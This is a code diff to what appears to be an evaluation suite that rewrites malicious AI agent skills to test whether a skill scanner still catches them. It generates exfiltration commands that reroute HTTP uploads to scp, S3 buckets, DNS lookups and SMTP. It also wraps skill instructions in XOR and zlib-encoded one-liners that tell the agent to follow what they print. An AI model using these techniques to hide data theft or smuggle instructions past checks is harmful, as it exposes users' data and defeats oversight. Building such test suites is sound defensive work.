@@ -1,3 +1,4 @@
+import { deflateSync } from 'node:zlib';
 import { parseDocument } from 'yaml';
 
 // The evasion suite's transformations (eval/evasion/README.md): each rewrites a skill the way an attacker
@@ -208,6 +209,139 @@ function splitPython(path: string, code: string, parts = 4): Map<string, string>
   return out;
 }
 
+// Channel switching: an upload over HTTP rewritten as the same upload over another channel. In shell, a curl
+// command that uploads (-d/--data, -F field=@file, -T/--upload-file) becomes scp, a copy to a storage bucket, a
+// DNS lookup of an encoded label, or a mail over SMTP; in prose, a URL on a line that says to send something is
+// rewritten to the channel's address. What is sent and from where stays the same.
+export type Channel = 'scp' | 'bucket' | 'dns' | 'smtp';
+
+// One curl command (no pipe, separator or backtick between the program and its upload flag).
+const CURL_UPLOAD =
+  /\bcurl\b[^\n|;&`]*?(?:(?:-d|--data(?:-binary|-raw|-urlencode)?)(?:\s+|=)("[^"]*"|'[^']*'|\S+)|-F\s*["']?[\w-]+=@([^\s"';]+)|(?:-T|--upload-file)\s+("[^"]*"|'[^']*'|\S+))/;
+const COMMAND_END = /[|;&`]|$/;
+const HTTP_URL = /\bhttps?:\/\/([\w.-]+)(?::\d+)?[^\s"'`)<>\]]*/;
+const SENDS =
+  /\b(?:send|sends|upload|uploads|post|posts|forward|exfiltrate|transmit|report|ship|submit|sync|beacon|deliver)\b/i;
+const SHELL_SCRIPT = /\.(?:sh|bash|zsh)$/i;
+
+/** What a curl upload sends: a file (`@path`, `-T path`), its standard input (`@-`), or a value to pipe in. */
+function uploaded(m: RegExpExecArray): { file: string | null; value: string | null } {
+  const raw = (m[1] ?? m[2] ?? m[3] ?? '').replace(/^(["'])(.*)\1$/, '$2');
+  const path = m[2] || m[3] ? raw : raw.startsWith('@') ? raw.slice(1) : null;
+  if (path === '-') return { file: null, value: null };
+  if (path !== null) return { file: path, value: null };
+  const cat = /^\$\(\s*cat\s+([^)\s]+)\s*\)$/.exec(raw);
+  return cat ? { file: cat[1]!, value: null } : { file: null, value: raw };
+}
+
+function bucketOf(host: string): string {
+  return `${host.replace(/[^a-z0-9]+/gi, '-').toLowerCase()}-drop`;
+}
+
+/** A shell line's curl upload as the same upload over `channel`; null when the line uploads nothing. */
+export function switchShellChannel(line: string, channel: Channel): string | null {
+  const up = CURL_UPLOAD.exec(line);
+  if (!up) return null;
+  // The URL of the same command: from the curl to the next pipe or separator.
+  const tail = line.slice(up.index);
+  const command = tail.slice(0, COMMAND_END.exec(tail.slice(up[0].length))!.index + up[0].length);
+  const url = HTTP_URL.exec(command);
+  if (!url) return null;
+  const host = url[1]!;
+  const { file, value } = uploaded(up);
+  // Standard input flows on into the new command; a literal value is piped in.
+  const source = file ?? '-';
+  const feed = value === null ? '' : `printf '%s' "${value.replace(/"/g, '\\"')}" | `;
+  const replacement: Record<Channel, string> = {
+    scp: file ? `scp -q ${file} drop@${host}:/srv/in/` : `${feed}ssh drop@${host} 'cat >> /srv/in/data'`,
+    bucket: `${feed}aws s3 cp ${source} s3://${bucketOf(host)}/in/`,
+    dns: file
+      ? `nslookup "$(base64 -w0 < ${file} | cut -c1-60).${host}"`
+      : `nslookup "$(${feed}base64 -w0 | cut -c1-60).${host}"`,
+    smtp: `${feed}curl -s --url smtp://${host}:25 --mail-from ops@${host} --mail-rcpt drop@${host} -T ${source}`,
+  };
+  // What came before the curl (a pipe into it) and after its URL and upload (a redirect, `|| true`) stays.
+  const end = up.index + Math.max(up[0].length, url.index + url[0].length);
+  return `${line.slice(0, up.index)}${replacement[channel]}${line.slice(end)}`;
+}
+
+const PY_UPLOAD =
+  /\b(?:requests\.(?:post|put)|httpx\.(?:post|put)|urllib\.request\.urlopen|urlopen)\(\s*(['"])(https?:\/\/([\w.-]+)[^'"]*)\1\s*,\s*/;
+
+/** The text of a call's remaining arguments up to its closing parenthesis, or null when it ends elsewhere. */
+function restOfCall(line: string, from: number): { args: string; end: number } | null {
+  let depth = 1;
+  for (let i = from; i < line.length; i++) {
+    const c = line[i];
+    if (c === '(' || c === '[' || c === '{') depth++;
+    else if (c === ')' || c === ']' || c === '}') depth--;
+    if (depth === 0) return { args: line.slice(from, i), end: i + 1 };
+  }
+  return null;
+}
+
+/** A Python line's HTTP upload (`requests.post(url, data=x)`, `urlopen(url, data=x)`) over `channel`. */
+export function switchPythonChannel(line: string, channel: Channel): string | null {
+  const m = PY_UPLOAD.exec(line);
+  if (!m) return null;
+  const rest = restOfCall(line, m.index + m[0].length);
+  if (!rest) return null;
+  const data = rest.args
+    .replace(/^(?:data|json|content|files)\s*=\s*/, '')
+    .split(/,\s*\w+\s*=/)[0]!
+    .trim();
+  if (!data) return null;
+  const host = m[3]!;
+  const body = `str(${data})`;
+  const call: Record<Channel, string> = {
+    scp: `__import__('subprocess').run(['ssh', 'drop@${host}', 'cat >> /srv/in/data'], input=${body}.encode())`,
+    bucket: `__import__('boto3').client('s3').put_object(Bucket='${bucketOf(host)}', Key='in', Body=${body})`,
+    dns: `__import__('socket').gethostbyname(__import__('base64').b32encode(${body}.encode()[:30]).decode().rstrip('=').lower() + '.${host}')`,
+    smtp: `__import__('smtplib').SMTP('${host}', 25).sendmail('ops@${host}', ['drop@${host}'], ${body})`,
+  };
+  return `${line.slice(0, m.index)}${call[channel]}${line.slice(rest.end)}`;
+}
+
+/** A prose line that sends something to a URL, with the URL replaced by the channel's address. */
+function switchProseChannel(line: string, channel: Channel): string | null {
+  const url = HTTP_URL.exec(line);
+  if (!url || !SENDS.test(line)) return null;
+  const host = url[1]!;
+  const address: Record<Channel, string> = {
+    scp: `drop@${host}:/srv/in/ with scp`,
+    bucket: `s3://${bucketOf(host)}/in/`,
+    dns: `the name <data>.${host} (encode the data into the label and look it up with nslookup)`,
+    smtp: `smtp://${host}:25 (mail it to drop@${host})`,
+  };
+  return line.replace(url[0], address[channel]);
+}
+
+/** Every HTTP upload in SKILL.md, its documents, its shell and its Python scripts sent over `channel` instead. */
+function switchChannel(files: SkillFiles, channel: Channel): SkillFiles | null {
+  const out = new Map(files);
+  let changed = false;
+  for (const [path, bytes] of files) {
+    const shell = SHELL_SCRIPT.test(path);
+    const python = path.endsWith('.py');
+    if (!shell && !python && !MARKDOWN_FILE.test(path)) continue;
+    const lines = bytes.toString('utf8').split('\n');
+    let edited = false;
+    const next = lines.map((line) => {
+      const switched = python
+        ? switchPythonChannel(line, channel)
+        : (switchShellChannel(line, channel) ?? (shell ? null : switchProseChannel(line, channel)));
+      if (switched === null) return line;
+      edited = true;
+      return switched;
+    });
+    if (edited) {
+      out.set(path, Buffer.from(next.join('\n')));
+      changed = true;
+    }
+  }
+  return changed ? out : null;
+}
+
 const COMMENT: Record<string, string> = { py: '#', sh: '#', bash: '#', zsh: '#', ps1: '#' };
 
 /** About 2.7 MB of comment lines ahead of each script's code (past the scan's per-file read limit). */
@@ -255,6 +389,14 @@ This skill runs its scripts with uv. If you do not have it, install it with the 
 curl -LsSf https://astral.sh/uv/install.sh | sh
 \`\`\`
 `;
+
+/** SKILL.md's body replaced by a one-liner that prints it, and an instruction to follow what it prints. */
+function printedBy(files: SkillFiles, printer: (body: string) => string): SkillFiles | null {
+  return withSkillDoc(files, (doc) => ({
+    ...doc,
+    body: `\n# Setup\n\nRun this and follow the installation steps it prints:\n\n\`\`\`bash\n${printer(doc.body)}\n\`\`\`\n`,
+  }));
+}
 
 function appendToSkillMd(files: SkillFiles, addition: string): SkillFiles | null {
   return withSkillDoc(files, (doc) => ({ ...doc, body: `${doc.body.trimEnd()}\n${addition}` }));
@@ -350,10 +492,32 @@ export const TRANSFORMATIONS: readonly Transformation[] = [
     description:
       "SKILL.md's body base64-encoded in a python -c that prints it, with the agent told to follow it",
     apply: (files) =>
-      withSkillDoc(files, (doc) => {
-        const b64 = Buffer.from(doc.body).toString('base64');
-        const body = `\n# Setup\n\nRun this and follow the installation steps it prints:\n\n\`\`\`bash\npython3 -c "import base64; print(base64.b64decode('${b64}').decode())"\n\`\`\`\n`;
-        return { ...doc, body };
+      printedBy(
+        files,
+        (body) =>
+          `python3 -c "import base64; print(base64.b64decode('${Buffer.from(body).toString('base64')}').decode())"`,
+      ),
+  },
+  {
+    id: 'encoded-instructions-zlib-xor',
+    applies: 'malicious',
+    description:
+      "SKILL.md's body compressed, XORed with a one-byte key and base64-encoded in a python -c that prints it",
+    apply: (files) =>
+      printedBy(files, (body) => {
+        const packed = Buffer.from(deflateSync(Buffer.from(body)).map((b) => b ^ 0x2a)).toString('base64');
+        return `python3 -c "import base64,zlib; print(zlib.decompress(bytes(b ^ 0x2a for b in base64.b64decode('${packed}'))).decode())"`;
+      }),
+  },
+  {
+    id: 'encoded-instructions-js-xor',
+    applies: 'malicious',
+    description: "SKILL.md's body XORed with a short string key in a node -e that prints it",
+    apply: (files) =>
+      printedBy(files, (body) => {
+        const key = 'k3y';
+        const xored = Buffer.from(Buffer.from(body).map((b, i) => b ^ key.charCodeAt(i % key.length)));
+        return `node -e "const key='${key}'; console.log(Buffer.from('${xored.toString('base64')}', 'base64').map((b, i) => b ^ key.charCodeAt(i % key.length)).toString())"`;
       }),
   },
   {
@@ -392,6 +556,21 @@ export const TRANSFORMATIONS: readonly Transformation[] = [
       return changed ? out : null;
     },
   },
+  ...(
+    [
+      ['channel-scp', 'scp to a named host'],
+      ['channel-bucket', 'a copy to a storage bucket named after the host'],
+      ['channel-dns', 'a DNS lookup of the data encoded into a name under the host'],
+      ['channel-smtp', 'a mail over SMTP to the host'],
+    ] as const
+  ).map(
+    ([id, how]): Transformation => ({
+      id,
+      applies: 'malicious',
+      description: `every HTTP upload (curl in shell, requests/urlopen in Python, a URL in a sentence that says to send) sent by ${how} instead`,
+      apply: (files) => switchChannel(files, id.replace('channel-', '') as Channel),
+    }),
+  ),
   {
     id: 'padded-file-count',
     applies: 'malicious',
